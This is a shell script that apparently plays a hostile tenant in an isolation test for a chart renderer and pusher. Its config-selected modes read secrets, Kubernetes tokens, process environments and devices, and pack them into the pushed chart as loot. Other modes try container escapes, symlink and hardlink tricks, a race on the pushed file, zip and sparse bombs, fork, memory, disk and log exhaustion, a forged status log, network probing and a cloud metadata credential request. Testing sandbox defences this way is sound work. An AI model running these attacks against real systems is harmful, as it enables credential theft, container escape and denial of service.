# A renderer in the hands of a tenant: what `render` does is what the configuration says. What holds the credential is the real
# pusher, from the same image. Runs by a static busybox; a line of output begins with what was tried.
export PATH=/bin
bb=/bin/busybox

if [ "$1" = push ]; then
    exec /renderhub-renderer "$@"
fi

field() {
    $bb sed -n "s/.*\"$1\":\"\([^\"]*\)\".*/\1/p" /etc/renderer/config.json
}

# A chart that the pusher takes, with the file $2 beside its metadata.
chart() {
    $bb mkdir -p "/tmp/$1"
    printf 'apiVersion: "v2"\nname: "%s"\ntype: "application"\nversion: "1.0.0"\ndescription: "%s"\n' "$1" "$3" >"/tmp/$1/Chart.yaml"
    $bb cp "$2" "/tmp/$1/loot.txt"
    $bb tar -C /tmp -cf - "$1/Chart.yaml" "$1/loot.txt" | $bb gzip >/tmp/packed
    $bb mv /tmp/packed /chart/chart.tgz
}

# Everything that can be read, with its name; big files are programs and libraries of the image.
everything() {
    $bb env
    $bb cat /proc/self/mountinfo
    $bb find / -xdev -type f -size -64k ! -path '/proc/*' ! -path '/sys/*' ! -path '/tmp/*' ! -name hostile.sh 2>/dev/null |
        while read -r file; do echo "FILE $file"; $bb head -c 4096 "$file" 2>/dev/null; echo; done
    # Mounts of their own, which -xdev leaves out.
    for file in /etc/renderer/*; do echo "FILE $file"; $bb head -c 4096 "$file" 2>/dev/null; echo; done
    $bb ls -laR /etc/renderer /var/run /run /chart /tmp /dev /mnt /media /home /root 2>&1
    for place in "" /proc/1/root /proc/self/root /proc/1/cwd /proc/self/cwd /proc/2/root /chart/.. /chart/../../..; do
        for secret in credentials/password credentials/username credentials/config.json dockerconfig.json push/url; do
            $bb cat "$place/etc/renderer/$secret" && echo "READ $place/etc/renderer/$secret"
        done
        $bb cat "$place/var/run/secrets/kubernetes.io/serviceaccount/token" && echo "READ $place token"
    done 2>&1
    for process in /proc/[0-9]*; do
        $bb cat "$process/environ" "$process/cmdline" 2>/dev/null | $bb tr '\0' '\n'
        $bb ls -l "$process/fd" 2>/dev/null
    done
    for device in kmsg mem kmem port sda vda nvme0n1 fuse loop0; do
        $bb head -c 64 "/dev/$device" 2>/dev/null && echo "READ /dev/$device"
    done
    $bb mknod /chart/device b 8 0 2>/dev/null && echo "MADE a device"
    $bb mount -t tmpfs none /mnt 2>/dev/null && echo "MOUNTED"
    $bb unshare -r $bb true 2>/dev/null && echo "UNSHARED a user namespace"
    $bb touch /etc/elsewhere 2>/dev/null && echo "WROTE elsewhere"
    $bb su -c true 2>/dev/null && echo "BECAME root"
    $bb chroot /chart $bb true 2>/dev/null && echo "CHANGED root"
    $bb nsenter -t 1 -m $bb true 2>/dev/null && echo "ENTERED"
    $bb id
    $bb grep -E 'Cap|NoNewPrivs|Seccomp' /proc/self/status
}

mode=$(field mode)
name=$(field chart)
echo "MODE $mode"
case "$mode" in
good)
    echo good >/tmp/loot
    chart "$name" /tmp/loot first
    ;;
everything)
    everything >/tmp/loot 2>&1
    $bb cat /tmp/loot
    $bb head -c 4000 /tmp/loot >/dev/termination-log
    chart "$name" /tmp/loot first
    ;;
look)
    everything 2>&1
    $bb env >/dev/termination-log
    exit 1
    ;;
link)
    $bb ln -s "$(field target)" /chart/chart.tgz
    ;;
linkchart)
    echo linked >/tmp/loot
    chart "$name" /tmp/loot linked
    $bb mv /chart/chart.tgz /chart/elsewhere.tgz
    $bb ln -s elsewhere.tgz /chart/chart.tgz
    ;;
hardlink)
    $bb ln /etc/renderer/config.json /chart/chart.tgz 2>/dev/null && echo "LINKED the configuration"
    # A second name of a link, which is no link to follow but a link itself.
    $bb ln -s "$(field target)" /chart/first
    $bb ln /chart/first /chart/chart.tgz
    ;;
pipe)
    $bb mkfifo /chart/chart.tgz
    ;;
directory)
    $bb mkdir -p /chart/chart.tgz/inside
    ;;
nothing) ;;
garbage)
    $bb head -c 1000000 /dev/urandom >/chart/chart.tgz
    ;;
linkinside)
    $bb mkdir -p "/tmp/$name"
    $bb ln -s "$(field target)" "/tmp/$name/Chart.yaml"
    $bb tar -C /tmp -cf - "$name/Chart.yaml" | $bb gzip >/chart/chart.tgz
    ;;
zeros)
    $bb dd if=/dev/zero bs=1M count=1024 2>/dev/null | $bb gzip >/chart/chart.tgz
    ;;
sparse)
    $bb truncate -s 1073741824 /chart/chart.tgz
    ;;
linger)
    echo first >/tmp/loot
    chart "$name" /tmp/loot first
    # Waits for the end of its parent, and then changes the chart under the pusher's hands, if it lives: a change before that end
    # is the container's own.
    $bb setsid $bb sh -c "while kill -0 $$ 2>/dev/null; do :; done; while :; do echo second >/chart/chart.tgz; done" \
        </dev/null >/dev/null 2>&1 &
    ;;
connect)
    for target in $(field targets | $bb tr ',' ' '); do
        what=${target%%=*} address=${target#*=}
        if $bb nc -w 3 "${address%:*}" "${address##*:}" </dev/null >/tmp/answer 2>&1; then
            echo "CONNECT $what reached"
        else
            echo "CONNECT $what refused"
        fi
    done
    printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n' | $bb nc -w 3 "$(field metadata)" 80
    echo "CONNECT done"
    exit 1
    ;;
lie)
    printf '{"phase":"Push","reason":"Pushed","digest":"sha256:%064d"}' 0 >/dev/termination-log
    exit 1
    ;;
fork)
    # Ends with the first process it is refused; a bound of its own, should there be none.
    n=0
    while [ $n -lt 1000 ]; do
        $bb sleep 300 &
        n=$((n + 1))
        echo "FORKED $n"
    done
    ;;
memory)
    $bb tail /dev/zero
    ;;
disk)
    while :; do $bb dd if=/dev/zero of=/chart/chart.tgz bs=1M count=40 2>/dev/null; $bb sleep 1; done
    ;;
log)
    $bb yes "A line of a log that nobody asked for, over and over again, until there is no disk left for anybody else." |
        $bb head -c 1073741824
    $bb sleep 300
    ;;
word)
    $bb dd if=/dev/zero of=/dev/termination-log bs=1M count=1024 2>&1
    exit 1
    ;;
listen)
    $bb nc -ll -p 8080 -e $bb echo "a sibling"
    ;;
sleep)
    $bb sleep 300
    ;;
*)
    echo "no such mode"
    exit 2
    ;;
esac
